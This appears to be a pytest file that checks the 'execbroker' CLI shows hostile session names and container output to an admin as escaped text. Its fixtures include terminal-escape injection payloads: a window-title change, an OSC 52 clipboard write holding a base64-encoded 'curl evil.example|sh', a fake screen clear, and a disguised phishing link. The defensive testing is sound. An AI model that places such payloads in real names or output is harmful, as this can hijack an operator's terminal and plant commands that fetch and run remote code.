"""Hostile names and output reach the admin's terminal as plain text (SECURITY-PROBES-2 W4, W5).

A user names the parts of a request with rich markup (``[/]`` crashed ``status`` and
``watch``; ``[link=…]`` made a link whose text hides its target) and with terminal control
sequences (a window title, an OSC 52 clipboard write, a screen clear with a fake "all
sessions OK"), and their container prints the same. Each command runs as a new process in
a real pseudo-terminal against the test broker; what it wrote is fed to a terminal
emulator (pyte), and the test reads the screen as the admin would see it.
"""

from __future__ import annotations

import fcntl
import json
import os
import select
import struct
import subprocess
import sys
import termios
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pyte
import pytest

from tests.client.broker import RunningBroker, run_request

COLUMNS = 400  # wide enough that no table folds a name over two lines
ROWS = 120
BEFORE = "PROMPT-BEFORE-THE-COMMAND"  # on the screen before the command: a clear removes it

TITLE = "\x1b]0;PWNED-TITLE\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK\x1b\\"  # base64 of "curl evil.example|sh"
CLEAR = "\x1b[2J\x1b[H"
EXECUTABLE = f"job{TITLE}{CLIPBOARD}"
COMPUTE = f"cpu{CLEAR}all sessions OK\x9b31m[/]"
MOUNT = "[link=https://evil.example/reauth]Session expired[/link] [bold red]root: run it[/]"
OUTPUT = r"done\x1b]0;TITLE-FROM-OUTPUT\x07\x1b[2J\x1b[Hroot: nothing to see\n"

# What the screen shows instead: every control character written out, every bracket kept.
EXECUTABLE_SHOWN = "job\\x1b]0;PWNED-TITLE\\x07\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK\\x1b\\"
COMPUTE_SHOWN = r"cpu\x1b[2J\x1b[Hall sessions OK\u009b31m[/]"
OUTPUT_SHOWN = r"done\x1b]0;TITLE-FROM-OUTPUT\x07\x1b[2J\x1b[Hroot: nothing to see"


def hostile_request(**environment: str) -> dict[str, Any]:
    document = run_request(MOCK_RUN_SECONDS="0.2", MOCK_OUTPUT=OUTPUT, **environment)
    document["executable"]["meta"]["name"] = EXECUTABLE
    document["compute"]["meta"]["name"] = COMPUTE
    document["compute"]["volumes"][0]["meta"]["name"] = MOUNT
    return document


@dataclass(frozen=True)
class Screen:
    """What a command left on a terminal: its exit code, bytes, and the emulated screen."""

    code: int
    written: bytes
    screen: pyte.Screen

    @property
    def text(self) -> str:
        return "\n".join(line.rstrip() for line in self.screen.display)

    def assert_not_hijacked(self) -> None:
        assert self.screen.title == "", f"the window title was set to {self.screen.title!r}"
        assert b"\x1b]52;" not in self.written, "the clipboard was written (OSC 52)"
        assert b"\x1b]8;" not in self.written, "a hyperlink was made from a name"
        assert b"\x9b" not in self.written, "a C1 control sequence reached the terminal"
        assert self.screen.display[0].startswith(BEFORE), "the screen was cleared"
        assert "Traceback" not in self.text, self.text


def in_terminal(broker: RunningBroker, *args: str, seconds: float = 60) -> Screen:
    """``execbroker ARGS`` with a pseudo-terminal for its input and outputs."""
    controller, terminal = os.openpty()
    fcntl.ioctl(terminal, termios.TIOCSWINSZ, struct.pack("HHHH", ROWS, COLUMNS, 0, 0))
    environment = {
        "PATH": "/usr/bin:/bin",
        "HOME": "/nonexistent",
        "TERM": "xterm-256color",
        "EXECBROKER_URL": broker.url,
        "EXECBROKER_TOKEN": broker.token,
    }
    process = subprocess.Popen(
        [sys.executable, "-m", "execbroker", *args],
        stdin=terminal,
        stdout=terminal,
        stderr=terminal,
        env=environment,
        start_new_session=True,
    )
    os.close(terminal)
    written = bytearray()
    deadline = time.monotonic() + seconds
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([controller], [], [], 0.2)
            if ready:
                try:
                    chunk = os.read(controller, 65536)
                except OSError:  # EIO: every holder of the terminal has closed it
                    break
                if not chunk:
                    break
                written += chunk
            elif process.poll() is not None:
                break
        code = process.wait(timeout=max(1.0, deadline - time.monotonic()))
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        os.close(controller)
    screen = pyte.Screen(COLUMNS, ROWS)
    stream = pyte.ByteStream(screen)
    stream.feed(f"{BEFORE}\r\n".encode())
    stream.feed(bytes(written))
    return Screen(code, bytes(written), screen)


def _ended(broker: RunningBroker, document: dict[str, Any]) -> str:
    """A direct run of ``document`` by the test broker's user, once it has ended."""
    headers = {"Authorization": f"Bearer {broker.token}"}
    with httpx.Client(base_url=broker.url, headers=headers, timeout=30) as client:
        created = client.post("/direct", json=document)
        assert created.status_code == 303, created.text
        location = created.headers["location"]
        for _ in range(60):
            session = client.get(location, params={"wait": 5}).json()
            if session["phase"] in {"COMPLETED", "FAILED", "CANCELLED"}:
                return str(session["meta"]["uuid"])
    raise AssertionError(f"still {session['phase']}")


@pytest.fixture(scope="module")
def hostile_session(cli_broker: RunningBroker) -> str:
    return _ended(cli_broker, hostile_request())


def test_status_shows_hostile_names_as_text(
    cli_broker: RunningBroker, hostile_session: str
) -> None:
    shown = in_terminal(cli_broker, "status", hostile_session)
    assert shown.code == 0, shown.text
    shown.assert_not_hijacked()
    assert EXECUTABLE_SHOWN in shown.text
    assert COMPUTE_SHOWN in shown.text
    assert MOUNT in shown.text, "the markup is shown, not obeyed"
    assert "COMPLETED" in shown.text


def test_watch_shows_hostile_names_as_text(cli_broker: RunningBroker, hostile_session: str) -> None:
    shown = in_terminal(cli_broker, "watch", hostile_session)
    assert shown.code == 0, shown.text
    shown.assert_not_hijacked()
    assert f"compute {COMPUTE_SHOWN}" in shown.text
    assert f"executable {EXECUTABLE_SHOWN}" in shown.text
    assert f"volume {MOUNT}" in shown.text
    assert f"Session {hostile_session} ended COMPLETED (exit code 0)" in shown.text


def test_logs_show_hostile_names_and_output_as_text(
    cli_broker: RunningBroker, hostile_session: str
) -> None:
    shown = in_terminal(cli_broker, "logs", hostile_session)
    assert shown.code == 0, shown.text
    shown.assert_not_hijacked()
    assert f"Preparing {COMPUTE_SHOWN}" in shown.text
    assert OUTPUT_SHOWN in shown.text, "the container's output, escaped"
    assert f"compute {COMPUTE_SHOWN}" in shown.text, "the source column"


def test_logs_raw_refuses_a_terminal_and_writes_as_stored_to_a_pipe(
    cli_broker: RunningBroker, hostile_session: str
) -> None:
    refused = in_terminal(cli_broker, "logs", "--raw", hostile_session)
    assert refused.code == 1
    refused.assert_not_hijacked()
    assert "--raw writes control characters as they are" in refused.text
    assert "Preparing" not in refused.text, "nothing of the session was printed"

    piped = subprocess.run(
        [sys.executable, "-m", "execbroker", "logs", "--raw", hostile_session],
        capture_output=True,
        timeout=60,
        env={
            "PATH": "/usr/bin:/bin",
            "HOME": "/nonexistent",
            "EXECBROKER_URL": cli_broker.url,
            "EXECBROKER_TOKEN": cli_broker.token,
        },
        check=False,
    )
    assert piped.returncode == 0, piped.stderr
    # The names as the user gave them (the source column); the messages as stored.
    assert f"compute {COMPUTE}".encode() in piped.stdout
    assert OUTPUT_SHOWN.encode() in piped.stdout


def test_request_watch_and_ls_show_hostile_names_as_text(
    cli_broker: RunningBroker, tmp_path: Path
) -> None:
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(hostile_request()), encoding="utf-8")
    shown = in_terminal(cli_broker, "request", str(path), "--accept", "best", "--watch")
    assert shown.code == 0, shown.text
    shown.assert_not_hijacked()
    assert "Offers" in shown.text
    assert f"compute {COMPUTE_SHOWN}" in shown.text
    assert "ended COMPLETED (exit code 0)" in shown.text

    # ls shows no names (UUIDs, phases, times): the screen stays the admin's all the same.
    listed = in_terminal(cli_broker, "ls", "--last", "5")
    assert listed.code == 0, listed.text
    listed.assert_not_hijacked()
    assert "COMPLETED" in listed.text
